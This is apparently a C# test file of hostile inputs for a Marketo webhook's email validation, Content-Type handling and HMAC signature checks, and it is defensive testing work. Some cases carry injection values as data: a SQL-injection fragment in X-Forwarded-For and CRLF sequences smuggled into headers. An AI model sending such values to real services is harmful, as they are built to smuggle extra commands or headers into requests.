        yield return Case(Email, "quoted local part", Batch("""{"id":"h-1","email":"\"jane\"@example.com"}"""), Ok("h-1", "good-1"));
        yield return Case(Email, "IP literal domain", Batch("""{"id":"h-1","email":"h@[192.168.0.1]"}"""), Rejects(".email"));
        yield return Case(Email, "domain without a dot", Batch("""{"id":"h-1","email":"h@localhost"}"""), Rejects(".email"));
        yield return Case(Email, "leading dot in the local part", Batch("""{"id":"h-1","email":".h@example.com"}"""), Rejects(".email"));
        yield return Case(Email, "two dots in the local part", Batch("""{"id":"h-1","email":"h..i@example.com"}"""), Rejects(".email"));
        yield return Case(Email, "trailing dot in the domain", Batch("""{"id":"h-1","email":"h@example.com."}"""), Rejects(".email"));
        yield return Case(Email, "domain label starting with a hyphen", Batch("""{"id":"h-1","email":"h@-example.com"}"""), Rejects(".email"));
        yield return Case(Email, "two at signs", Batch("""{"id":"h-1","email":"h@i@example.com"}"""), Rejects(".email"));
        yield return Case(Email, "display name with the address", Batch("""{"id":"h-1","email":"Jane <h@example.com>"}"""), Rejects(".email"));
        yield return Case(Email, "comment in the local part", Batch("""{"id":"h-1","email":"h(comment)@example.com"}"""), Rejects(".email"));
        yield return Case(Email, "capitals and surrounding spaces", Batch("""{"id":"h-1","email":"  JANE.DOE@EXAMPLE.COM  "}"""), Ok("h-1", "good-1"));
        yield return Case(Email, "shortest plausible address", Batch("""{"id":"h-1","email":"a@b.co"}"""), Ok("h-1", "good-1"));
        yield return Case(Email, "numeric top-level domain", Batch("""{"id":"h-1","email":"h@example.123"}"""), Ok("h-1", "good-1"));
    }

    private static IEnumerable<HostileCase> Headers()
    {
        var body = Batch(H(""));
        // Marketo Engage documents no Content-Type for its webhooks and never retries a 4xx: a JSON body is read as JSON.
        yield return Case(Header, "no Content-Type", new HostileRequest(body) { ContentType = null }, Ok("h-1", "good-1"));
        yield return Case(Header, "empty Content-Type", new HostileRequest(body) { ContentType = string.Empty }, Ok("h-1", "good-1"));
        yield return Case(Header, "text/plain", new HostileRequest(body) { ContentType = "text/plain" }, Ok("h-1", "good-1"));
        yield return Case(Header, "charset utf-16", new HostileRequest(body) { ContentType = "application/json; charset=utf-16" }, Refused(415, "Content-Type"));
        yield return Case(Header, "charset latin1", new HostileRequest(body) { ContentType = "application/json; charset=iso-8859-1" }, Refused(415, "Content-Type"));
        yield return Case(Header, "charset UTF-8 in capitals", new HostileRequest(body) { ContentType = "application/json; charset=UTF-8" }, Ok("h-1", "good-1"));
        yield return Case(Header, "charset quoted", new HostileRequest(body) { ContentType = "application/json;charset=\"utf-8\"" }, Ok("h-1", "good-1"));
        yield return Case(Header, "media type in capitals", new HostileRequest(body) { ContentType = "APPLICATION/JSON" }, Ok("h-1", "good-1"));
        yield return Case(Header, "vendor +json media type", new HostileRequest(body) { ContentType = "application/vnd.marketo.webhook+json" }, Ok("h-1", "good-1"));
        yield return Case(Header, "form-encoded body", new HostileRequest(Raw("id=h-1&email=h%40example.com")) { ContentType = "application/x-www-form-urlencoded" }, Refused(415, "Content-Type"));
        yield return Case(Header, "multipart body", new HostileRequest(Raw($"--b\r\nContent-Type: application/json\r\n\r\n{BatchText(H(""))}\r\n--b--\r\n")) { ContentType = "multipart/form-data; boundary=b" }, Refused(415, "Content-Type"));
        yield return Case(Header, "two media types", new HostileRequest(body) { ContentType = "application/json, text/plain" }, Refused(415, "Content-Type"));
        yield return Case(Header, "CRLF injected into Content-Type", new HostileRequest(body) { ContentType = "application/json\r\nX-Injected: 1" }, Refused(415, "Content-Type"));
        yield return Case(Header, "wildcard media type", new HostileRequest(body) { ContentType = "*/*" }, Refused(415, "Content-Type"));
        yield return Case(Header, "JSONP media type", new HostileRequest(body) { ContentType = "application/jsonp" }, Refused(415, "Content-Type"));
        yield return Case(Header, "Content-Type parameter of 10,000 characters", new HostileRequest(body) { ContentType = "application/json; x=" + new string('x', 10_000) }, Ok("h-1", "good-1"));
        yield return Case(Header, "hostile headers the webhook does not read", new HostileRequest(body)
        {
            Headers = new Dictionary<string, StringValues>
            {
                ["X-Forwarded-For"] = "127.0.0.1, ' or 1=1 --",
                ["X-Functions-Key"] = new string('k', 10_000),
                ["Cookie"] = new string('c', 100_000),
                ["X-Injected"] = "a\r\nb",
            },
        }, Ok("h-1", "good-1"));
        yield return Case(Header, "upload cut short", new HostileRequest(body) { Truncated = true }, Refused(400, "body"));
    }

    private static IEnumerable<HostileCase> Signatures()
    {
        var body = Batch(H(""));
        var t = FuzzDeployment.NowSeconds;
        var valid = Hex(FuzzDeployment.Secret, t, body);
        HostileCase WithSignature(string name, Func<byte[], string?> sign, Expect expect) => Case(Signature, name, new HostileRequest(body) { Sign = sign }, expect);
        HostileCase Refused401(string name, Func<byte[], string?> sign) => WithSignature(name, sign, Refused(401, SignatureHeader));

        yield return Refused401("no signature", _ => null);
        yield return Refused401("empty signature", _ => string.Empty);
        yield return Refused401("signature that is not one", _ => "hello");
        yield return Refused401("signed with another secret", b => WebhookSignatureVerifier.CreateHeader("not-the-secret", t, b));
        yield return Refused401("signature cut by one hex digit", _ => $"t={t},v1={valid[..63]}");
        yield return Refused401("signature one hex digit too long", _ => $"t={t},v1={valid}0");
        yield return Refused401("signature of 64 characters that are not hex", _ => $"t={t},v1={new string('z', 64)}");
        yield return Refused401("algorithm prefix instead of v1", _ => $"t={t},sha256={valid}");
        yield return Refused401("GitHub-style sha256= header value", _ => $"sha256={valid}");
        yield return Refused401("v0 scheme", _ => $"t={t},v0={valid}");
        yield return Refused401("v1 without a value", _ => $"t={t},v1=");
        yield return WithSignature("signature in upper-case hex", _ => $"t={t},v1={valid.ToUpperInvariant()}", Ok("h-1", "good-1"));
        yield return Refused401("keys in capitals", _ => $"T={t},V1={valid}");
        yield return WithSignature("spaces around the entries", _ => $" t={t} , v1={valid} ", Ok("h-1", "good-1"));
        yield return WithSignature("v1 before t", _ => $"v1={valid},t={t}", Ok("h-1", "good-1"));
        yield return WithSignature("timestamp 299 seconds old", b => WebhookSignatureVerifier.CreateHeader(FuzzDeployment.Secret, t - 299, b), Ok("h-1", "good-1"));
        yield return Refused401("timestamp 301 seconds old", b => WebhookSignatureVerifier.CreateHeader(FuzzDeployment.Secret, t - 301, b));
        yield return Refused401("timestamp 301 seconds ahead", b => WebhookSignatureVerifier.CreateHeader(FuzzDeployment.Secret, t + 301, b));
        yield return Refused401("timestamp in milliseconds", b => WebhookSignatureVerifier.CreateHeader(FuzzDeployment.Secret, t * 1000, b));
        yield return Refused401("timestamp zero", b => WebhookSignatureVerifier.CreateHeader(FuzzDeployment.Secret, 0, b));
        yield return Refused401("negative timestamp", b => $"t=-{t},v1={valid}");
        yield return Refused401("timestamp beyond a 64-bit integer", _ => $"t=99999999999999999999999,v1={valid}");
        yield return Refused401("timestamp as a date", _ => $"t=2026-11-28T12:00:00Z,v1={valid}");
        yield return Refused401("no timestamp", _ => $"v1={valid}");
        yield return Refused401("t differs from the signed timestamp", _ => $"t={t - 1},v1={valid}");
        yield return Refused401("HMAC over the body alone", b => $"t={t},v1={Convert.ToHexStringLower(System.Security.Cryptography.HMACSHA256.HashData(System.Text.Encoding.UTF8.GetBytes(FuzzDeployment.Secret), b))}");
        yield return Refused401("HMAC-SHA1 instead of SHA-256", b => $"t={t},v1={Convert.ToHexStringLower(System.Security.Cryptography.HMACSHA1.HashData(System.Text.Encoding.UTF8.GetBytes(FuzzDeployment.Secret), b))}");
        yield return Refused401("signature in base64", _ => $"t={t},v1={Convert.ToBase64String(Convert.FromHexString(valid))}");
        yield return WithSignature("signed with the previous secret", b => WebhookSignatureVerifier.CreateHeader(FuzzDeployment.PreviousSecret, t, b), Ok("h-1", "good-1"));
        yield return WithSignature("a wrong and a right v1", _ => $"t={t},v1={new string('0', 64)},v1={valid}", Ok("h-1", "good-1"));
        yield return Refused401("two wrong v1", _ => $"t={t},v1={new string('0', 64)},v1={new string('f', 64)}");
        yield return Refused401("10,000 wrong v1", _ => $"t={t}," + string.Join(',', Enumerable.Repeat($"v1={new string('a', 64)}", 10_000)));
        yield return Refused401("CRLF injected into the signature", _ => $"t={t},v1={valid}\r\nX-Injected: 1");
        yield return Case(Signature, "signed without the byte order mark it was sent with", new HostileRequest(Raw(new byte[] { 0xEF, 0xBB, 0xBF }, body)) { Sign = _ => $"t={t},v1={valid}" }, Refused(401, SignatureHeader));
        yield return Case(Signature, "signed over the body with a trailing newline", new HostileRequest(body) { Sign = b => WebhookSignatureVerifier.CreateHeader(FuzzDeployment.Secret, t, [.. b, (byte)'\n']) }, Refused(401, SignatureHeader));
        yield return Case(Signature, "the signature header twice", new HostileRequest(body) { Headers = new Dictionary<string, StringValues> { [SignatureHeader] = new([$"t={t},v1={valid}", $"t={t},v1={valid}"]) } }, Ok("h-1", "good-1"));
        yield return Case(Signature, "a replay within the tolerance", new HostileRequest(body), new Expect(202) { Accepted = [], Duplicates = ["h-1", "good-1"], Clean = true }) with { Before = [new HostileRequest(body)] };
        yield return Case(Signature, "a replayed signature on another body", new HostileRequest(Batch(H("\"reason\":\"changed\""))) { Sign = _ => $"t={t},v1={valid}" }, Refused(401, SignatureHeader)) with { Before = [new HostileRequest(body)] };
        yield return Case(Signature, "a signature sent to a deployment without a secret", new HostileRequest(body) { Sign = _ => "garbage" }, Ok("h-1", "good-1")) with { Signed = false };
        yield return Case(Signature, "no signature for a deployment without a secret", new HostileRequest(body) { Sign = _ => null }, Ok("h-1", "good-1")) with { Signed = false };
    }

    private static HostileCase Case(string kind, string name, byte[] body, Expect expect) => new(kind, name, new HostileRequest(body), expect);

    private static HostileCase Case(string kind, string name, HostileRequest request, Expect expect) => new(kind, name, request, expect);

    /// <summary>All named events recorded, nothing rejected or warned.</summary>
    private static Expect Ok(params string[] accepted) => new(202) { Accepted = accepted, Duplicates = [], Clean = true };

    /// <summary>The hostile event (index 0) recorded with a warning about <paramref name="field"/>, and the good one.</summary>
    private static Expect Warns(string field) => new(202) { Accepted = ["h-1", "good-1"], Duplicates = [], Names = H0 + field };

    /// <summary>The hostile event (index 0) rejected, naming <paramref name="field"/>; the good one recorded.</summary>
    private static Expect Rejects(string field) => new(202) { Accepted = ["good-1"], Duplicates = [], Names = H0 + field };

    private static Expect Refused(int status, string field) => new(status) { Names = field };

    /// <summary>The hostile event with a valid Contact Id (so an accepted one is pushed) and <paramref name="more"/> fields.</summary>
    private static string H(string more) =>
        "{\"id\":\"h-1\",\"email\":\"h@example.com\",\"salesforceId\":\"0035g00000ABCde\"" + (more.Length == 0 ? string.Empty : "," + more) + "}";

    private static string BatchText(string hostile) => $"{{\"unsubscribes\":[{hostile},{Good}]}}";

    private static byte[] Batch(string hostile) => Raw(BatchText(hostile));

    private static string Events(IEnumerable<string> events) => $"{{\"unsubscribes\":[{string.Join(',', events)}]}}";

    /// <summary>A batch whose hostile event is given in parts: text (as UTF-8), single bytes and byte arrays.</summary>
    private static byte[] BatchRaw(params object[] hostile) => Raw(["{\"unsubscribes\":[", .. hostile, $",{Good}]}}"]);

    /// <summary>Bytes from parts: text as UTF-8, an int as one byte, a byte array as it is.</summary>
    private static byte[] Raw(params object[] parts) =>
        parts.SelectMany(p => p switch
        {
            string text => System.Text.Encoding.UTF8.GetBytes(text),
            int one => [(byte)one],
            byte[] bytes => bytes,
            _ => throw new ArgumentException($"cannot write {p.GetType()}"),
        }).ToArray();

    private static string Hex(string secret, long timestamp, byte[] body) =>
        Convert.ToHexStringLower(WebhookSignatureVerifier.Compute(secret, timestamp, body));

    // A 64-character local part and labels of at most 63 characters, to exactly `length` characters.
    private static string LongEmail(int length)
    {
        var domain = new StringBuilder();
        var remaining = length - 65 - 3;
        while (remaining > 0)
        {
            var label = Math.Min(63, remaining - 1);
            domain.Append(new string('d', label)).Append('.');
            remaining -= label + 1;
        }

        var address = new string('l', 64) + "@" + domain + "com";
        return address.Length == length ? address : throw new InvalidOperationException($"built {address.Length} characters, not {length}");
    }
}
